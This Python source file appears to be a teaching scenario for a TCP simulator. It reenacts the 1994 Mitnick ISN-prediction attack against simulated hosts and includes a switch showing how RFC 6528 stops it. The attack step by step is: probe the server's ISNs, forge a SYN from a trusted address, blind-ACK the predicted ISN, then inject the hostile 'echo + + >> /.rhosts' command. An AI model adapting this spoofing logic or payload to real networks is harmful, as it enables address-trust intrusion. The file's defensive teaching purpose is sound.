"""``isn_prediction``: the 1985 attack (Morris; Mitnick, 1994) against predictable ISNs.

The server trusts the host 10.0.0.3 by address, as rsh/rlogin did with
.rhosts.  The attacker silences that host (Mitnick flooded it), probes the
server from its own address to sample ISNs, predicts the ISN the server will
choose for a SYN that claims to come from the trusted host, and completes the
handshake blind: it never sees the SYN-ACK, which goes to the silenced host.
Against RFC 793's clock (one tick per 4 µs, the same for every connection)
the prediction is exact.  Against RFC 6528's keyed hash of the 4-tuple plus
the clock (``isn=rfc6528``, what Linux does) the probes reveal nothing about
another 4-tuple and the forged ACK is answered with a reset.
"""

from __future__ import annotations

from ..sim.host import Host, SocketError
from ..tcp.segment import Flags
from ..tcp.seq import seq_add, seq_sub
from .base import MS, Param, Scenario, World

RSH_PORT = 514
TRUSTED_IP, TRUSTED_PORT = "10.0.0.3", 1023
COMMAND = b"echo + + >> /.rhosts\n"  # the line Mitnick's tools sent


def script(world: World) -> None:
    p = world.params
    server = world.host("server", "10.0.0.2")
    attacker = world.host("attacker", "10.0.0.66")
    # The trusted host 10.0.0.3 is not on the network: silenced, it cannot answer the SYN-ACK with a reset.
    summary = world.summary
    summary["trusted_host"] = TRUSTED_IP

    def rsh_server(host: Host):
        listener = host.listen(RSH_PORT)
        while True:
            sock = yield listener.accept()
            host.spawn(serve_one, sock)

    def serve_one(host: Host, sock):
        try:
            data = yield from sock.recv_until_eof()
        except SocketError:
            return
        if sock.conn.remote[0] == TRUSTED_IP and data:
            summary["command_run_as_trusted"] = data.decode(errors="replace").strip()
            summary["spoofed_bytes_accepted"] = len(data)
        try:
            sock.close()
        except SocketError:
            pass

    def attack(host: Host):
        samples = []
        for _ in range(p["probes"]):
            # A real connection from the attacker's own address: its SYN-ACK shows the server's ISN.
            sent = host.sched.now
            sock = yield host.connect(server.ip, RSH_PORT)
            samples.append((sent, sock.conn.tcb.irs))
            yield host.sleep(p["probe_gap"])
            sock.abort()
        (t1, isn1), (t2, isn2) = samples[-2], samples[-1]
        rate = seq_sub(isn2, isn1) / (t2 - t1)  # ISN ticks per µs, as seen between the last two probes
        summary["probe_isns"] = [isn for _, isn in samples]
        summary["isn_ticks_per_second"] = round(rate * 1_000_000)
        send_at = host.sched.now
        predicted = seq_add(isn2, round(rate * (send_at - t2)))
        src, dst = (TRUSTED_IP, TRUSTED_PORT), (server.ip, RSH_PORT)
        client_isn = host.rng.getrandbits(32)
        host.inject(src, dst, Flags.SYN, client_isn, window=4096)
        summary["predicted_isn"] = predicted
        # The SYN-ACK goes to the silenced host; the attacker waits a round trip and answers it blind.
        yield host.sleep(world.rtt_us + p["slack"])
        host.inject(src, dst, Flags.ACK, seq_add(client_isn, 1), seq_add(predicted, 1), window=4096)
        yield host.sleep(p["slack"])
        host.inject(src, dst, Flags.ACK | Flags.PSH, seq_add(client_isn, 1), seq_add(predicted, 1), window=4096,
                    payload=COMMAND)
        host.inject(src, dst, Flags.ACK | Flags.FIN, seq_add(client_isn, 1 + len(COMMAND)), seq_add(predicted, 1),
                    window=4096)
        spoofed = next((c for c in server.all_connections if c.remote[0] == TRUSTED_IP), None)
        if spoofed is None:  # the network lost the forged SYN: nothing to complete
            summary.update(actual_isn=None, prediction_error=None, handshake_completed=False)
        else:
            summary["actual_isn"] = spoofed.tcb.iss
            summary["prediction_error"] = seq_sub(spoofed.tcb.iss, predicted)
        yield host.sleep(world.rtt_us)
        summary["handshake_completed"] = spoofed is not None and spoofed.established_reported
        summary.setdefault("spoofed_bytes_accepted", 0)
        summary.setdefault("command_run_as_trusted", None)

    server.spawn(rsh_server)
    attacker.spawn(attack)


SCENARIO = Scenario(
    name="isn_prediction",
    title="ISN prediction: a blind handshake from a spoofed, trusted address",
    summary_line="Sample the server's ISNs, predict the next one, and complete a handshake you never see.",
    explanation=(
        "A handshake proves little about the client's address unless the server's initial sequence number "
        "is unguessable: whoever can ACK it without seeing it can pose as any host. RFC 793 drew ISNs from "
        "a clock ticking every 4 µs, the same clock for every connection, so two probes tell an attacker "
        "the rate and the next value. Kevin Mitnick did exactly this in 1994 against a machine that trusted "
        "another one by address: he silenced the trusted host, sent a SYN in its name, acknowledged the "
        "SYN-ACK he never saw and added himself to .rhosts. RFC 6528 adds a keyed hash of the addresses and "
        "ports to the clock, so probes from one 4-tuple say nothing about another. Switch isn to rfc6528 to "
        "see the forged ACK rejected."
    ),
    script=script,
    params=(Param("isn", "choice", "rfc793", "initial sequence numbers: RFC 793's 4 µs clock, or RFC 6528's keyed "
                  "hash + 64 ns clock", choices=("rfc793", "rfc6528")),
            Param("probes", "int", 2, "connections the attacker makes to sample ISNs", 2, 20),
            Param("probe_gap", "duration", 100 * MS, "how long each probe stays open before its reset", 0,
                  3_600_000_000),
            Param("slack", "duration", 10 * MS, "extra wait before the blind ACK", 0, 3_600_000_000)),
)
